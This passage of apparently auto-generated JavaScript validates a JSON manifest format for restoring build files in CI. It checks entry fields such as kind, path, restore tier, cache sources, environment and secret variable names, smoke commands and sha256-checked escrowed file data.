floor.","type":"integer","minimum":1,"maximum":9007199254740991},"workspace":{"description":"The described directory: relative to the manifest file's directory, or absolute.","type":"string","minLength":1,"maxLength":4096},"created":{"type":"string","pattern":"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},"expires":{"type":"string","pattern":"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},"scope":{"description":"Where this manifest may run: compared with the run (in CI: GITHUB_REPOSITORY, GITHUB_REF) before any recipe runs.","type":"object","additionalProperties":false,"minProperties":1,"properties":{"repository":{"type":"string","pattern":"^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$"},"ref":{"description":"Glob over the full ref, e.g. refs/heads/main or refs/heads/release/**.","type":"string","minLength":1,"maxLength":256},"manifest_path":{"description":"The manifest's path relative to the workspace, e.g. .swr/manifest.json.","type":"string","minLength":1,"maxLength":4096}}},"shell":{"description":"The shell that runs recipes and smoke commands, as argv before the command (default [\"bash\", \"-c\"]).","type":"array","minItems":1,"maxItems":8,"items":{"type":"string","minLength":1,"maxLength":256}},"entries":{"type":"array","maxItems":10000,"items":{"$ref":"#/$defs/entry"}}}};const pattern4 = new RegExp("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$", "u");const pattern6 = new RegExp("^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$", "u");const schema33 = {"type":"object","required":["kind"],"properties":{"kind":{"enum":["file","blob","tree","link"]}},"allOf":[{"if":{"properties":{"kind":{"const":"file"}}},"then":{"$ref":"#/$defs/fileEntry"}},{"if":{"properties":{"kind":{"const":"blob"}}},"then":{"$ref":"#/$defs/blobEntry"}},{"if":{"properties":{"kind":{"const":"tree"}}},"then":{"$ref":"#/$defs/treeEntry"}},{"if":{"properties":{"kind":{"const":"link"}}},"then":{"$ref":"#/$defs/linkEntry"}}]};const schema34 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"file"},"expect":{"type":"object","additionalProperties":false,"required":["size","sha256","mode"],"properties":{"size":{"$ref":"#/$defs/size"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}},"escrow":{"description":"The file's bytes, deflated and base64-encoded, checked against expect.sha256 when captured and restored.","type":"object","additionalProperties":false,"required":["encoding","data"],"properties":{"encoding":{"const":"deflate-base64"},"data":{"type":"string","maxLength":1048576,"pattern":"^[A-Za-z0-9+/]*={0,2}$"}}}}};const schema40 = {"type":"integer","minimum":0,"maximum":9007199254740991};const schema41 = {"type":"string","pattern":"^[0-9a-f]{64}$"};const schema42 = {"description":"Permission bits in octal, four digits, e.g. \"0755\".","type":"string","pattern":"^[0-7]{4}$"};const schema35 = {"type":"object","required":["id","kind","path","tier","needs","expect"],"properties":{"id":{"$ref":"#/$defs/id"},"kind":{"enum":["file","blob","tree","link"]},"path":{"$ref":"#/$defs/relpath"},"tier":{"description":"Restore order: 0 credentials/shims, 1 scripts, 2 source trees, 3 large downloads, 4 build outputs.","type":"integer","minimum":0,"maximum":4},"needs":{"type":"array","maxItems":256,"uniqueItems":true,"items":{"$ref":"#/$defs/id"}},"restore":{"description":"How to recreate the entry: a shell recipe, or restore sources tried in order (recipes, and Actions caches) until the entry verifies.","oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"type":"array","minItems":1,"maxItems":8,"items":{"oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"$ref":"#/$defs/cacheSource"}]}}]},"timeout_s":{"type":"integer","minimum":1,"maximum":86400},"env":{"description":"Names of variables passed from the caller's environment to the recipe (besides PATH, HOME, LANG, TMPDIR).","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"secret_env":{"description":"Like env, and their values are scrubbed from recipe output and reports.","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"smoke":{"type":"string","minLength":1,"maxLength":65536},"note":{"type":"string","maxLength":4096},"expect":{"type":"object"}}};const schema36 = {"type":"string","pattern":"^[A-Za-z0-9._-]{1,128}$"};const schema37 = {"type":"string","minLength":1,"maxLength":4096};const schema39 = {"type":"object","additionalProperties":false,"required":["cache"],"properties":{"cache":{"type":"object","additionalProperties":false,"required":["key"],"properties":{"key":{"type":"string","minLength":1,"maxLength":512},"restore-keys":{"type":"array","maxItems":16,"items":{"type":"string","minLength":1,"maxLength":512}}}}}};const pattern7 = new RegExp("^[A-Za-z0-9._-]{1,128}$", "u");const pattern9 = new RegExp("^[A-Za-z_][A-Za-z0-9_]{0,127}$", "u");function validate24(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate24.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.id === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "id"},message:"must have required property '"+"id"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.kind === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "kind"},message:"must have required property '"+"kind"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data.path === undefined){const err2 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "path"},message:"must have required property '"+"path"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}if(data.tier === undefined){const err3 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "tier"},message:"must have required property '"+"tier"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(data.needs === undefined){const err4 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "needs"},message:"must have required property '"+"needs"+"'"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}if(data.expect === undefined){const err5 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "expect"},message:"must have required property '"+"expect"+"'"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(data.id !== undefined){let data0 = data.id;if(typeof data0 === "string"){if(!pattern7.test(data0)){const err6 = {instancePath:instancePath+"/id",schemaPath:"#/$defs/id/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9._-]{1,128}$"},message:"must match pattern \""+"^[A-Za-z0-9._-]{1,128}$"+"\""};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}else {const err7 = {instancePath:instancePath+"/id",schemaPath:"#/$defs/id/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}if(data.kind !== undefined){let data1 = data.kind;if(!((((data1 === "file") || (data1 === "blob")) || (data1 === "tree")) || (data1 === "link"))){const err8 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/enum",keyword:"enum",params:{allowedValues: schema35.properties.kind.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}if(data.path !== undefined){let data2 = data.path;if(typeof data2 === "string"){if(func1(data2) > 4096){const err9 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}if(func1(data2) < 1){const err10 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}else {const err11 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}if(data.tier !== undefined){let data3 = data.tier;if(!(((typeof data3 == "number") && (!(data3 % 1) && !isNaN(data3))) && (isFinite(data3)))){const err12 = {instancePath:instancePath+"/tier",schemaPath:"#/properties/tier/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}if((typeof data3 == "number") && (isFinite(data3))){if(data3 > 4 || isNaN(data3)){const err13 = {instancePath:instancePath+"/tier",schemaPath:"#/properties/tier/maximum",keyword:"maximum",params:{comparison: "<=", limit: 4},message:"must be <= 4"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}if(data3 < 0 || isNaN(data3)){const err14 = {instancePath:instancePath+"/tier",schemaPath:"#/properties/tier/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}}if(data.needs !== undefined){let data4 = data.needs;if(Array.isArray(data4)){if(data4.length > 256){const err15 = {instancePath:instancePath+"/needs",schemaPath:"#/properties/needs/maxItems",keyword:"maxItems",params:{limit: 256},message:"must NOT have more than 256 items"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}const len0 = data4.length;for(let i0=0; i0<len0; i0++){let data5 = data4[i0];if(typeof data5 === "string"){if(!pattern7.test(data5)){const err16 = {instancePath:instancePath+"/needs/" + i0,schemaPath:"#/$defs/id/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9._-]{1,128}$"},message:"must match pattern \""+"^[A-Za-z0-9._-]{1,128}$"+"\""};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}else {const err17 = {instancePath:instancePath+"/needs/" + i0,schemaPath:"#/$defs/id/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}}let i1 = data4.length;let j0;if(i1 > 1){outer0:for(;i1--;){for(j0 = i1; j0--;){if(func0(data4[i1], data4[j0])){const err18 = {instancePath:instancePath+"/needs",schemaPath:"#/properties/needs/uniqueItems",keyword:"uniqueItems",params:{i: i1, j: j0},message:"must NOT have duplicate items (items ## "+j0+" and "+i1+" are identical)"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;break outer0;}}}}}else {const err19 = {instancePath:instancePath+"/needs",schemaPath:"#/properties/needs/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}if(data.restore !== undefined){let data6 = data.restore;const _errs16 = errors;let valid7 = false;let passing0 = null;const _errs17 = errors;if(typeof data6 === "string"){if(func1(data6) > 65536){const err20 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/0/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}if(func1(data6) < 1){const err21 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/0/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}}else {const err22 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/0/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}var _valid0 = _errs17 === errors;if(_valid0){valid7 = true;passing0 = 0;}const _errs19 = errors;if(Array.isArray(data6)){if(data6.length > 8){const err23 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/1/maxItems",keyword:"maxItems",params:{limit: 8},message:"must NOT have more than 8 items"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}if(data6.length < 1){const err24 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/1/minItems",keyword:"minItems",params:{limit: 1},message:"must NOT have fewer than 1 items"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}const len1 = data6.length;for(let i2=0; i2<len1; i2++){let data7 = data6[i2];const _errs22 = errors;let valid10 = false;let passing1 = null;const _errs23 = errors;if(typeof data7 === "string"){if(func1(data7) > 65536){const err25 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf/0/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}if(func1(data7) < 1){const err26 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf/0/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}}else {const err27 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf/0/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}var _valid1 = _errs23 === errors;if(_valid1){valid10 = true;passing1 = 0;}const _errs25 = errors;if(data7 && typeof data7 == "object" && !Array.isArray(data7)){if(data7.cache === undefined){const err28 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/$defs/cacheSource/required",keyword:"required",params:{missingProperty: "cache"},message:"must have required property '"+"cache"+"'"};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}for(const key0 in data7){if(!(key0 === "cache")){const err29 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/$defs/cacheSource/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}}if(data7.cache !== undefined){let data8 = data7.cache;if(data8 && typeof data8 == "object" && !Array.isArray(data8)){if(data8.key === undefined){const err30 = {instancePath:instancePath+"/restore/" + i2+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/required",keyword:"required",params:{missingProperty: "key"},message:"must have required property '"+"key"+"'"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}for(const key1 in data8){if(!((key1 === "key") || (key1 === "restore-keys"))){const err31 = {instancePath:instancePath+"/restore/" + i2+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}}if(data8.key !== undefined){let data9 = data8.key;if(typeof data9 === "string"){if(func1(data9) > 512){const err32 = {instancePath:instancePath+"/restore/" + i2+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}if(func1(data9) < 1){const err33 = {instancePath:instancePath+"/restore/" + i2+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}}else {const err34 = {instancePath:instancePath+"/restore/" + i2+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}}if(data8["restore-keys"] !== undefined){let data10 = data8["restore-keys"];if(Array.isArray(data10)){if(data10.length > 16){const err35 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys",schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/maxItems",keyword:"maxItems",params:{limit: 16},message:"must NOT have more than 16 items"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}const len2 = data10.length;for(let i3=0; i3<len2; i3++){let data11 = data10[i3];if(typeof data11 === "string"){if(func1(data11) > 512){const err36 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys/" + i3,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}if(func1(data11) < 1){const err37 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys/" + i3,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}}else {const err38 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys/" + i3,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}}}else {const err39 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys",schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}}}else {const err40 = {instancePath:instancePath+"/restore/" + i2+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err40];}else {vErrors.push(err40);}errors++;}}}else {const err41 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/$defs/cacheSource/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err41];}else {vErrors.push(err41);}errors++;}var _valid1 = _errs25 === errors;if(_valid1 && valid10){valid10 = false;passing1 = [passing1, 1];}else {if(_valid1){valid10 = true;passing1 = 1;}}if(!valid10){const err42 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf",keyword:"oneOf",params:{passingSchemas: passing1},message:"must match exactly one schema in oneOf"};if(vErrors === null){vErrors = [err42];}else {vErrors.push(err42);}errors++;}else {errors = _errs22;if(vErrors !== null){if(_errs22){vErrors.length = _errs22;}else {vErrors = null;}}}}}else {const err43 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/1/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err43];}else {vErrors.push(err43);}errors++;}var _valid0 = _errs19 === errors;if(_valid0 && valid7){valid7 = false;passing0 = [passing0, 1];}else {if(_valid0){valid7 = true;passing0 = 1;}}if(!valid7){const err44 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf",keyword:"oneOf",params:{passingSchemas: passing0},message:"must match exactly one schema in oneOf"};if(vErrors === null){vErrors = [err44];}else {vErrors.push(err44);}errors++;}else {errors = _errs16;if(vErrors !== null){if(_errs16){vErrors.length = _errs16;}else {vErrors = null;}}}}if(data.timeout_s !== undefined){let data12 = data.timeout_s;if(!(((typeof data12 == "number") && (!(data12 % 1) && !isNaN(data12))) && (isFinite(data12)))){const err45 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/properties/timeout_s/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err45];}else {vErrors.push(err45);}errors++;}if((typeof data12 == "number") && (isFinite(data12))){if(data12 > 86400 || isNaN(data12)){const err46 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/properties/timeout_s/maximum",keyword:"maximum",params:{comparison: "<=", limit: 86400},message:"must be <= 86400"};if(vErrors === null){vErrors = [err46];}else {vErrors.push(err46);}errors++;}if(data12 < 1 || isNaN(data12)){const err47 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/properties/timeout_s/minimum",keyword:"minimum",params:{comparison: ">=", limit: 1},message:"must be >= 1"};if(vErrors === null){vErrors = [err47];}else {vErrors.push(err47);}errors++;}}}if(data.env !== undefined){let data13 = data.env;if(Array.isArray(data13)){if(data13.length > 64){const err48 = {instancePath:instancePath+"/env",schemaPath:"#/properties/env/maxItems",keyword:"maxItems",params:{limit: 64},message:"must NOT have more than 64 items"};if(vErrors === null){vErrors = [err48];}else {vErrors.push(err48);}errors++;}const len3 = data13.length;for(let i4=0; i4<len3; i4++){let data14 = data13[i4];if(typeof data14 === "string"){if(!pattern9.test(data14)){const err49 = {instancePath:instancePath+"/env/" + i4,schemaPath:"#/properties/env/items/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z_][A-Za-z0-9_]{0,127}$"},message:"must match pattern \""+"^[A-Za-z_][A-Za-z0-9_]{0,127}$"+"\""};if(vErrors === null){vErrors = [err49];}else {vErrors.push(err49);}errors++;}}else {const err50 = {instancePath:instancePath+"/env/" + i4,schemaPath:"#/properties/env/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err50];}else {vErrors.push(err50);}errors++;}}let i5 = data13.length;let j1;if(i5 > 1){const indices0 = {};for(;i5--;){let item0 = data13[i5];if(typeof item0 !== "string"){continue;}if(typeof indices0[item0] == "number"){j1 = indices0[item0];const err51 = {instancePath:instancePath+"/env",schemaPath:"#/properties/env/uniqueItems",keyword:"uniqueItems",params:{i: i5, j: j1},message:"must NOT have duplicate items (items ## "+j1+" and "+i5+" are identical)"};if(vErrors === null){vErrors = [err51];}else {vErrors.push(err51);}errors++;break;}indices0[item0] = i5;}}}else {const err52 = {instancePath:instancePath+"/env",schemaPath:"#/properties/env/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err52];}else {vErrors.push(err52);}errors++;}}if(data.secret_env !== undefined){let data15 = data.secret_env;if(Array.isArray(data15)){if(data15.length > 64){const err53 = {instancePath:instancePath+"/secret_env",schemaPath:"#/properties/secret_env/maxItems",keyword:"maxItems",params:{limit: 64},message:"must NOT have more than 64 items"};if(vErrors === null){vErrors = [err53];}else {vErrors.push(err53);}errors++;}const len4 = data15.length;for(let i6=0; i6<len4; i6++){let data16 = data15[i6];if(typeof data16 === "string"){if(!pattern9.test(data16)){const err54 = {instancePath:instancePath+"/secret_env/" + i6,schemaPath:"#/properties/secret_env/items/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z_][A-Za-z0-9_]{0,127}$"},message:"must match pattern \""+"^[A-Za-z_][A-Za-z0-9_]{0,127}$"+"\""};if(vErrors === null){vErrors = [err54];}else {vErrors.push(err54);}errors++;}}else {const err55 = {instancePath:instancePath+"/secret_env/" + i6,schemaPath:"#/properties/secret_env/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err55];}else {vErrors.push(err55);}errors++;}}let i7 = data15.length;let j2;if(i7 > 1){const indices1 = {};for(;i7--;){let item1 = data15[i7];if(typeof item1 !== "string"){continue;}if(typeof indices1[item1] == "number"){j2 = indices1[item1];const err56 = {instancePath:instancePath+"/secret_env",schemaPath:"#/properties/secret_env/uniqueItems",keyword:"uniqueItems",params:{i: i7, j: j2},message:"must NOT have duplicate items (items ## "+j2+" and "+i7+" are identical)"};if(vErrors === null){vErrors = [err56];}else {vErrors.push(err56);}errors++;break;}indices1[item1] = i7;}}}else {const err57 = {instancePath:instancePath+"/secret_env",schemaPath:"#/properties/secret_env/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err57];}else {vErrors.push(err57);}errors++;}}if(data.smoke !== undefined){let data17 = data.smoke;if(typeof data17 === "string"){if(func1(data17) > 65536){const err58 = {instancePath:instancePath+"/smoke",schemaPath:"#/properties/smoke/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err58];}else {vErrors.push(err58);}errors++;}if(func1(data17) < 1){const err59 = {instancePath:instancePath+"/smoke",schemaPath:"#/properties/smoke/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err59];}else {vErrors.push(err59);}errors++;}}else {const err60 = {instancePath:instancePath+"/smoke",schemaPath:"#/properties/smoke/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err60];}else {vErrors.push(err60);}errors++;}}if(data.note !== undefined){let data18 = data.note;if(typeof data18 === "string"){if(func1(data18) > 4096){const err61 = {instancePath:instancePath+"/note",schemaPath:"#/properties/note/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err61];}else {vErrors.push(err61);}errors++;}}else {const err62 = {instancePath:instancePath+"/note",schemaPath:"#/properties/note/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err62];}else {vErrors.push(err62);}errors++;}}if(data.expect !== undefined){let data19 = data.expect;if(!(data19 && typeof data19 == "object" && !Array.isArray(data19))){const err63 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err63];}else {vErrors.push(err63);}errors++;}}}else {const err64 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err64];}else {vErrors.push(err64);}errors++;}validate24.errors = vErrors;return errors === 0;}validate24.evaluated = {"props":{"id":true,"kind":true,"path":true,"tier":true,"needs":true,"restore":true,"timeout_s":true,"env":true,"secret_env":true,"smoke":true,"note":true,"expect":true},"dynamicProps":false,"dynamicItems":false};const pattern11 = new RegExp("^[0-9a-f]{64}$", "u");const pattern12 = new RegExp("^[0-7]{4}$", "u");const pattern13 = new RegExp("^[A-Za-z0-9+/]*={0,2}$", "u");function validate23(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate23.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate24(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate24.errors : vErrors.concat(validate24.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("file" !== data.kind){const err0 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "file"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}if(data.expect !== undefined){let data1 = data.expect;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.size === undefined){const err1 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "size"},message:"must have required property '"+"size"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data1.sha256 === undefined){const err2 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "sha256"},message:"must have required property '"+"sha256"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}if(data1.mode === undefined){const err3 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "mode"},message:"must have required property '"+"mode"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}for(const key0 in data1){if(!(((key0 === "size") || (key0 === "sha256")) || (key0 === "mode"))){const err4 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}if(data1.size !== undefined){let data2 = data1.size;if(!(((typeof data2 == "number") && (!(data2 % 1) && !isNaN(data2))) && (isFinite(data2)))){const err5 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if((typeof data2 == "number") && (isFinite(data2))){if(data2 > 9007199254740991 || isNaN(data2)){const err6 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}if(data2 < 0 || isNaN(data2)){const err7 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}}if(data1.sha256 !== undefined){let data3 = data1.sha256;if(typeof data3 === "string"){if(!pattern11.test(data3)){const err8 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}else {const err9 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}if(data1.mode !== undefined){let data4 = data1.mode;if(typeof data4 === "string"){if(!pattern12.test(data4)){const err10 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/pattern",keyword:"pattern",params:{pattern: "^[0-7]{4}$"},message:"must match pattern \""+"^[0-7]{4}$"+"\""};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}else {const err11 = 